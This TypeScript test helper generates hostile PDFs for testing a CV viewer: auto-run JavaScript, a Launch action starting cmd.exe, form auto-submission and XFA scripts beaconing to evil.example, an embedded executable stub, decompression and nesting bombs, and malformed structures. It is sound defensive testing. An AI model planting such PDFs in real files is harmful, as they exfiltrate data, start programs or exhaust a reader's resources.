import { createDeflate, deflateSync } from 'node:zlib';

/** A value behind an object's number, or a stream: the entries of its dictionary, and its content. */
type PdfObject = string | readonly [entries: string, content: Buffer | string];

interface PdfParts {
  /** From 1. The first is the catalogue. */
  objects: readonly PdfObject[];
  trailer?: string;
}

/** A PDF with a table of its objects. */
export function pdfOf({ objects, trailer = '' }: PdfParts): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const places: number[] = [];
  const length = () => parts.reduce((sum, part) => sum + part.length, 0);
  for (const [at, object] of objects.entries()) {
    places.push(length());
    parts.push(Buffer.from(`${at + 1} 0 obj\n`), bodyOf(object), Buffer.from('\nendobj\n'));
  }
  const start = length();
  const lines = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`);
  parts.push(
    Buffer.from(
      `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${lines.join('')}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`,
    ),
  );
  return Buffer.concat(parts);
}

function bodyOf(object: PdfObject): Buffer {
  if (typeof object === 'string') return Buffer.from(object, 'latin1');
  const [entries, content] = object;
  const bytes = Buffer.from(content as string, 'latin1');
  return Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${bytes.length} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}

interface PageParts {
  content?: string | PdfObject;
  /** Of the page. */
  page?: string;
  box?: string;
  fonts?: string;
  resources?: string;
  catalogue?: string;
  /** From object 6. */
  more?: readonly PdfObject[];
  trailer?: string;
}

const words = 'BT /F1 18 Tf 72 700 Td (I build stairs.) Tj ET';

/** One page with a line of text, and what else is given. Its content is object 4, its font object 5. */
export function onePage(parts: PageParts = {}): Buffer {
  const { content = words, page = '', box = '[0 0 612 792]', fonts = '/F1 5 0 R' } = parts;
  const { resources = '', catalogue = '', more = [], trailer = '' } = parts;
  return pdfOf({
    objects: [
      `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /MediaBox ${box} /Contents 4 0 R /Resources << /Font << ${fonts} >> ${resources} >> ${page} >>`,
      typeof content === 'string' ? ['', content] : content,
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      ...more,
    ],
    trailer,
  });
}

/** `megabytes` of spaces, deflated twice. */
async function makeBomb(megabytes: number): Promise<Buffer> {
  const deflate = createDeflate({ level: 1 });
  const packed: Buffer[] = [];
  deflate.on('data', (part: Buffer) => packed.push(part));
  const block = Buffer.alloc(1024 * 1024, ' ');
  for (let written = 0; written < megabytes; written += 1) {
    if (!deflate.write(block)) await new Promise((resolve) => deflate.once('drain', resolve));
  }
  await new Promise<void>((resolve) => deflate.end(resolve));
  return deflateSync(Buffer.concat(packed));
}

const twice = '/Filter [/FlateDecode /FlateDecode]';
const evil = 'http://evil.example/beacon';
const picture = (entries: string, content: string | Buffer): PdfObject => [
  `/Type /XObject /Subtype /Image /ColorSpace /DeviceGray /BitsPerComponent 8 ${entries}`,
  content,
];
const withPicture = (object: PdfObject) =>
  onePage({
    content: `${words} q 200 0 0 200 72 400 cm /I1 Do Q`,
    resources: '/XObject << /I1 6 0 R >>',
    more: [object],
  });
const withFont = (font: string, ...more: PdfObject[]) =>
  onePage({ fonts: '/F1 6 0 R', more: [font, ...more] });
/** Each draws the next one ten times, so that the last is drawn 10^9 times. */
const laughs = (levels: number): PdfObject[] =>
  Array.from({ length: levels }, (_, level) => {
    const next = level + 1 < levels ? `/Resources << /XObject << /X ${level + 7} 0 R >> >>` : '';
    const content = level + 1 < levels ? '/X Do '.repeat(10) : '0 0 m 1 1 l S';
    return [`/Type /XObject /Subtype /Form /BBox [0 0 600 800] ${next}`, content];
  });

const whole = onePage();
const text = (bytes: Buffer) => bytes.toString('latin1');

/** In words what the screen then shows: pages, or why there are none. */
export type PdfEnding = 'shown' | 'protected' | 'damaged' | 'heavy' | 'any';

export interface HostilePdf {
  name: string;
  bytes: Buffer;
  ending: PdfEnding;
}

/** PDFs that do, claim or break what no CV needs. */
export async function makeHostilePdfs(): Promise<HostilePdf[]> {
  const bomb = await makeBomb(400);
  const list: [name: string, bytes: Buffer, ending: PdfEnding][] = [
    [
      'JavaScript on opening, by name and of the page',
      onePage({
        catalogue:
          '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(2\\)) >>] >> >>',
        page: '/AA << /O << /S /JavaScript /JS (app.alert\\(3\\)) >> >>',
      }),
      'shown',
    ],
    [
      'a program to start',
      onePage({
        catalogue: '/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>',
      }),
      'shown',
    ],
    [
      'an address to open, and links',
      onePage({
        catalogue: `/OpenAction << /S /URI /URI (${evil}) >>`,
        page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (javascript:alert\\(1\\)) >> >> << /Type /Annot /Subtype /Link /Rect [0 0 612 792] /A << /S /URI /URI (${evil}) >> >>]`,
      }),
      'shown',
    ],
    [
      'another file to go to',
      onePage({
        catalogue: `/OpenAction << /S /GoToR /F << /FS /URL /F (${evil}) >> /D [0 /Fit] >>`,
      }),
      'shown',
    ],
    [
      'a form that is sent by itself',
      onePage({
        catalogue: `/OpenAction << /S /SubmitForm /F << /FS /URL /F (${evil}) >> >> /AcroForm << /Fields [6 0 R] /NeedAppearances true >>`,
        page: '/Annots [6 0 R]',
        more: [
          `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /V (Eva) /Rect [72 600 300 630] /AA << /F << /S /SubmitForm /F << /FS /URL /F (${evil}) >> >> >> >>`,
        ],
      }),
      'shown',
    ],
    [
      'files inside',
      onePage({
        catalogue: '/Names << /EmbeddedFiles << /Names [(virus.exe) 6 0 R] >> >>',
        page: '/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 50 50] /FS 6 0 R >>]',
        more: ['<< /Type /Filespec /F (virus.exe) /EF << /F 7 0 R >> >>', ['/Type /EmbeddedFile', 'MZ']],
      }),
      'shown',
    ],
    [
      'an XFA form with a script',
      onePage({
        catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >> /NeedsRendering true',
        more: [
          [
            '',
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a"><event activity="initialize"><script contentType="application/x-javascript">app.launchURL("${evil}")</script></event><field><value><image href="${evil}"/></value></field></subform></template></xdp:xdp>`,
          ],
        ],
      }),
      'shown',
    ],
    ['a page as large as a country', onePage({ box: '[0 0 1000000000 1000000000]' }), 'shown'],
    ['a page like a thread', onePage({ box: '[0 0 0.001 1000000]' }), 'any'],
    ['a page without a size', onePage({ box: '[0 0 0 0]' }), 'shown'],
    [
      '10,000 pages',
      pdfOf({
        objects: [
          '<< /Type /Catalog /Pages 2 0 R >>',
          `<< /Type /Pages /Kids [${Array.from({ length: 10_000 }, (_, at) => `${at + 3} 0 R`).join(' ')}] /Count 10000 >>`,
          ...Array.from({ length: 10_000 }, () => '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>'),
        ],
      }),
      'shown',
    ],
    [
      'a page tree in a circle',
      pdfOf({
        objects: [
          '<< /Type /Catalog /Pages 2 0 R >>',
          '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 1000000000 /Parent 3 0 R >>',
          '<< /Type /Pages /Kids [2 0 R] /Count 1000000000 /Parent 2 0 R >>',
        ],
      }),
      'damaged',
    ],
    [
      'a table of objects in a circle',
      Buffer.from(
        text(whole).replace('/Root 1 0 R', `/Root 1 0 R /Prev ${text(whole).lastIndexOf('xref\n0')}`),
        'latin1',
      ),
      'shown',
    ],
    [
      'a stream of objects that is in itself',
      onePage({
        catalogue: '/Outlines 6 0 R',
        more: [['/Type /ObjStm /N 1000000000 /First 10 /Extends 6 0 R', '6 0 7 0']],
      }),
      'shown',
    ],
    [
      'a table with two thousand million objects',
      Buffer.from(text(whole).replace(/\n0 6\n/, '\n0 2147483647\n'), 'latin1'),
      'any',
    ],
    ['400 MB of content in a few kB', onePage({ content: [twice, bomb] }), 'any'],
    [
      'a thousand million drawings',
      onePage({ content: '/X Do', resources: '/XObject << /X 6 0 R >>', more: laughs(9) }),
      'heavy',
    ],
    [
      'a drawing that draws itself',
      onePage({
        content: `${words} /X Do`,
        resources: '/XObject << /X 6 0 R >>',
        more: [
          [
            '/Type /XObject /Subtype /Form /BBox [0 0 600 800] /Resources << /XObject << /X 6 0 R >> >>',
            '/X Do /X Do',
          ],
        ],
      }),
      'any',
    ],
    [
      'a pattern of a hundred thousand million tiles',
      onePage({
        content: '/Pattern cs /P1 scn 0 0 612 792 re f',
        resources: '/Pattern << /P1 6 0 R >>',
        more: [
          [
            '/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001 /Resources << >>',
            '0 0 0.5 0.5 re f',
          ],
        ],
      }),
      'any',
    ],
    [
      'a function with a table of two thousand million values',
      onePage({
        content: '/S1 sh',
        resources: '/Shading << /S1 6 0 R >>',
        more: [
          '<< /ShadingType 1 /ColorSpace /DeviceRGB /Function 7 0 R /Domain [0 1 0 1] >>',
          [
            '/FunctionType 0 /Domain [0 1 0 1] /Range [0 1 0 1 0 1] /Size [46340 46340] /BitsPerSample 8',
            'abc',
          ],
        ],
      }),
      'any',
    ],
    ['an array nested a hundred thousand times', onePage({ page: `/Annots ${'['.repeat(100_000)}` }), 'any'],
    ['objects without their end', Buffer.from(text(whole).replaceAll('endobj', ''), 'latin1'), 'shown'],
    [
      'a password',
      onePage({
        trailer: `/ID [<00> <00>] /Encrypt << /Filter /Standard /V 1 /R 2 /P -4 /O <${'41'.repeat(32)}> /U <${'42'.repeat(32)}> >>`,
      }),
      'protected',
    ],
    ['half of a file', whole.subarray(0, Math.floor(whole.length / 3)), 'damaged'],
    ['nothing but its first line', Buffer.from('%PDF-1.7\n'), 'damaged'],
    ['nothing', Buffer.alloc(0), 'damaged'],
    ['a web page', Buffer.from('<!doctype html><script>alert(1)</script>'), 'damaged'],
    [
      'a font of 400 MB in a few kB',
      withFont(
        '<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FontDescriptor 7 0 R /FirstChar 32 /LastChar 33 /Widths [500 500] >>',
        '<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontFile2 8 0 R >>',
        [twice, bomb],
      ),
      'any',
    ],
    [
      'a font with 65,535 tables',
      withFont(
        '<< /Type /Font /Subtype /TrueType /BaseFont /Many /FontDescriptor 7 0 R >>',
        '<< /Type /FontDescriptor /FontName /Many /Flags 32 /FontFile2 8 0 R >>',
        ['', Buffer.concat([Buffer.from([0, 1, 0, 0, 0xff, 0xff]), Buffer.alloc(2000, 'glyf')])],
      ),
      'shown',
    ],
    [
      'a font of noise',
      withFont(
        '<< /Type /Font /Subtype /Type1 /BaseFont /Noise /FontDescriptor 7 0 R >>',
        '<< /Type /FontDescriptor /FontName /Noise /Flags 32 /FontFile3 8 0 R >>',
        ['/Subtype /Type1C', Buffer.concat([Buffer.from([1, 0, 4, 4]), Buffer.alloc(60_000, 0xff)])],
      ),
      'shown',
    ],
    [
      'a font whose letters draw themselves',
      withFont(
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] /FontMatrix [0.001 0 0 0.001 0 0] /FirstChar 73 /LastChar 73 /Widths [1000] /Encoding << /Differences [73 /I] >> /CharProcs << /I 7 0 R >> /Resources << /Font << /F1 6 0 R >> >> >>',
        ['', '1000 0 d0 BT /F1 900 Tf (III) Tj ET'],
      ),
      'any',
    ],
    ['a JBIG2 picture', withPicture(picture('/Width 10 /Height 10 /Filter /JBIG2Decode', 'abc')), 'shown'],
    ['a JPEG 2000 picture', withPicture(picture('/Width 10 /Height 10 /Filter /JPXDecode', 'abc')), 'shown'],
    ['a picture of 900 megapixels', withPicture(picture('/Width 30000 /Height 30000', 'abc')), 'shown'],
    [
      'a picture at another address',
      withPicture(picture(`/Width 10 /Height 10 /F << /FS /URL /F (${evil}) >> /FFilter /DCTDecode`, '')),
      'shown',
    ],
    [
      'text from right to left, in a font that it leaves out',
      onePage({
        content: 'BT /F1 24 Tf 300 700 Td <05E905DC05D505DD> Tj ET',
        fonts: '/F1 6 0 R',
        more: [
          '<< /Type /Font /Subtype /Type0 /BaseFont /HeiseiMin-W3 /Encoding /UniJIS-UCS2-H /DescendantFonts [7 0 R] >>',
          '<< /Type /Font /Subtype /CIDFontType0 /BaseFont /HeiseiMin-W3 /CIDSystemInfo << /Registry (Adobe) /Ordering (Japan1) /Supplement 2 >> /FontDescriptor 8 0 R >>',
          '<< /Type /FontDescriptor /FontName /HeiseiMin-W3 /Flags 4 >>',
        ],
      }),
      'shown',
    ],
  ];
  return list.map(([name, bytes, ending]) => ({ name, bytes, ending }));
}
